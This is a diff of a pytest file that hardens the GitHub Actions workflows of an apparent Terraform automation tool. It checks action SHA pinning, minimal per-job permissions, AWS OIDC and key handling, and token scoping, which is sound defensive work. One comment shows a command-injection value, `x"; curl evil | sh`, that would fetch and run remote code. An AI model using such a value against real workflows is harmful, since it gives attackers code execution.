@@ -16,6 +16,7 @@ ALLOWED_ACTIONS = {
     "hashicorp/setup-terraform",
     "actions/upload-artifact",
     "actions/download-artifact",
+    "aws-actions/configure-aws-credentials",
 }
 # A full commit sha: a tag (v4) can be moved to other code, a sha cannot.
 PINNED = re.compile(r"^[0-9a-f]{40}$")
@@ -89,9 +90,11 @@ def test_apply_and_destroy_share_one_queue(workflows: dict[str, dict[str, Any]])
 
 
 @pytest.mark.parametrize("kind", WORKFLOW_KINDS)
-def test_permissions_are_minimal(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
-    permissions = workflows[kind]["permissions"]
-    assert isinstance(permissions, dict)
+def test_permissions_are_granted_per_job_and_minimal(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
+    # Nothing at the workflow level: a job added later starts with no token rights at all.
+    assert workflows[kind]["permissions"] == {}
+    (job,) = workflows[kind]["jobs"].values()
+    permissions = job["permissions"]
     assert set(permissions) <= ALLOWED_PERMISSIONS
     expected = (
         {"contents": "write", "pull-requests": "write"}
@@ -99,8 +102,17 @@ def test_permissions_are_minimal(kind: str, workflows: dict[str, dict[str, Any]]
         else {"contents": "read", "id-token": "write"}
     )
     assert permissions == expected
+
+
+@pytest.mark.parametrize("kind", WORKFLOW_KINDS)
+def test_id_token_only_where_the_aws_role_is_assumed(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
     for job in workflows[kind]["jobs"].values():
-        assert "permissions" not in job  # nothing widened per job
+        assumes_role = any(
+            s.get("uses", "").startswith("aws-actions/configure-aws-credentials@")
+            and "role-to-assume" in (s.get("with") or {})
+            for s in job["steps"]
+        )
+        assert (job["permissions"].get("id-token") == "write") is assumes_role
 
 
 @pytest.mark.parametrize("kind", WORKFLOW_KINDS)
@@ -120,6 +132,29 @@ def test_actions_are_allowed_and_pinned(kind: str, workflows: dict[str, dict[str
         assert ACTION_PINS[action] == (sha, release)
 
 
+def test_every_pinned_action_is_used_and_pins_are_full_shas(files: dict[str, str]) -> None:
+    text = "\n".join(files[f".github/workflows/{kind}.yml"] for kind in WORKFLOW_KINDS)
+    for action, (sha, release) in ACTION_PINS.items():
+        assert PINNED.match(sha), action
+        assert f"uses: {action}@{sha} # {release}" in text, action
+
+
+def test_docs_record_each_pin_and_how_it_was_verified() -> None:
+    from tests.conftest import REPO_ROOT
+
+    docs = (REPO_ROOT / "docs" / "infra-repo.md").read_text()
+    rows = {
+        cells[0].strip("` "): [c.strip("` ") for c in cells[1:]]
+        for line in docs.splitlines()
+        if line.startswith("| `") and (cells := [c.strip() for c in line.strip("|").split("|")])
+    }
+    for action, (sha, release) in ACTION_PINS.items():
+        tag, pinned, runtime, verified = rows[action][:4]
+        assert (tag, pinned) == (release, sha), action
+        assert runtime == "node24", action
+        assert "rev-parse" in verified and "action.yml" in verified, action
+
+
 @pytest.mark.parametrize("kind", WORKFLOW_KINDS)
 def test_inputs_and_secrets_never_spliced_into_scripts(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
     # Script injection: a request id like `x"; curl evil | sh` must reach shell code as data.
@@ -134,10 +169,64 @@ def test_inputs_are_checked_first(kind: str, workflows: dict[str, dict[str, Any]
 
 
 @pytest.mark.parametrize("kind", WORKFLOW_KINDS)
-def test_checkout_keeps_no_token_unless_pushing(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
-    checkout = next(s for s in steps(workflows[kind]) if s.get("uses", "").startswith("actions/checkout@"))
-    persist = (checkout.get("with") or {}).get("persist-credentials", True)
-    assert persist is (kind == "cleanup")
+def test_checkouts_keep_no_token(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
+    # Even cleanup, which pushes: it hands GH_TOKEN to its push step alone (see below).
+    checkouts = [s for s in steps(workflows[kind]) if s.get("uses", "").startswith("actions/checkout@")]
+    assert checkouts
+    for checkout in checkouts:
+        assert checkout["with"]["persist-credentials"] is False
+
+
+@pytest.mark.parametrize("kind", ["plan", "apply", "destroy", "drift"])
+def test_aws_credentials_come_from_the_aws_action(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
+    (job,) = workflows[kind]["jobs"].values()
+    names = [s.get("name", "") for s in job["steps"]]
+    pick = job["steps"][names.index("AWS credentials (which method)")]
+    assert pick["id"] == "aws"
+    assert pick["run"] == "python3 .github/tfpilot/tfpilot_ci.py aws-method"
+    # The helper learns only whether the key secrets are set, never their values.
+    assert pick["env"] == {
+        "TFPILOT_AWS_ROLE_ARN": "${{ vars.TFPILOT_AWS_ROLE_ARN }}",
+        "TFPILOT_AWS_KEYS_SET": "${{ secrets.AWS_ACCESS_KEY_ID != '' && secrets.AWS_SECRET_ACCESS_KEY != '' }}",
+    }
+    role, keys = (
+        job["steps"][names.index("AWS credentials (OIDC role)")],
+        job["steps"][names.index("AWS credentials (access keys)")],
+    )
+    for step in (role, keys):
+        assert step["uses"].startswith("aws-actions/configure-aws-credentials@")
+        assert step["with"]["aws-region"] == "${{ env.AWS_REGION }}"
+    assert role["if"] == "steps.aws.outputs.method == 'role'"
+    assert role["with"] == {
+        "role-to-assume": "${{ vars.TFPILOT_AWS_ROLE_ARN }}",
+        "role-session-name": "tfpilot-${{ inputs.request_id || 'drift' }}",
+        "role-duration-seconds": "${{ vars.TFPILOT_AWS_SESSION_SECONDS || '3600' }}",
+        "aws-region": "${{ env.AWS_REGION }}",
+    }
+    assert keys["if"] == "steps.aws.outputs.method == 'keys'"
+    assert keys["with"]["aws-access-key-id"] == "${{ secrets.AWS_ACCESS_KEY_ID }}"
+    assert keys["with"]["aws-secret-access-key"] == "${{ secrets.AWS_SECRET_ACCESS_KEY }}"
+    # Inputs are checked before anything reaches AWS; credentials exist before Terraform runs.
+    first_terraform = next(i for i, s in enumerate(job["steps"]) if "terraform init" in s.get("run", ""))
+    check = next(i for i, name in enumerate(names) if name.startswith("Check inputs"))
+    assert check < names.index("AWS credentials (which method)")
+    assert names.index("AWS credentials (access keys)") < first_terraform
+    # The secrets reach the credential steps only.
+    for step in job["steps"]:
+        if step not in (pick, keys):
+            assert "AWS_SECRET_ACCESS_KEY" not in str(step)
+    assert "secrets." not in str(job.get("env"))
+
+
+def test_no_hand_written_sts_exchange(files: dict[str, str]) -> None:
+    for path, text in files.items():
+        for marker in (
+            "AssumeRoleWithWebIdentity",
+            "ACTIONS_ID_TOKEN_REQUEST",
+            "sts.amazonaws.com/",
+            "tfpilot_ci.py aws-credentials",
+        ):
+            assert marker not in text, (path, marker)
 
 
 def test_plan_uploads_plan_json(workflows: dict[str, dict[str, Any]]) -> None:
@@ -211,8 +300,15 @@ def test_destroy_is_scoped_to_the_request(workflows: dict[str, dict[str, Any]], 
 def test_cleanup_opens_a_pr_on_the_cleanup_branch(workflows: dict[str, dict[str, Any]]) -> None:
     cleanup = workflows["cleanup"]
     job = cleanup["jobs"]["cleanup"]
-    assert job["env"]["GH_TOKEN"] == "${{ github.token }}"
+    # The token reaches the one step that pushes and opens the PR, not the job.
+    assert "GH_TOKEN" not in job["env"]
+    holders = [s for s in job["steps"] if "GH_TOKEN" in (s.get("env") or {})]
+    assert len(holders) == 1
+    assert holders[0]["env"]["GH_TOKEN"] == "${{ github.token }}"
     script = run_scripts(cleanup)[1]
+    assert holders[0]["run"] == script
+    # git gets the token from gh's credential helper, set up before the push.
+    assert script.index("gh auth setup-git") < script.index("git push")
     assert 'file="envs/$TF_ENV/tfpilot_$REQUEST_ID.tf"' in script
     assert 'branch="cleanup/$REQUEST_ID"' in script
     assert 'git rm --quiet "$file"' in script
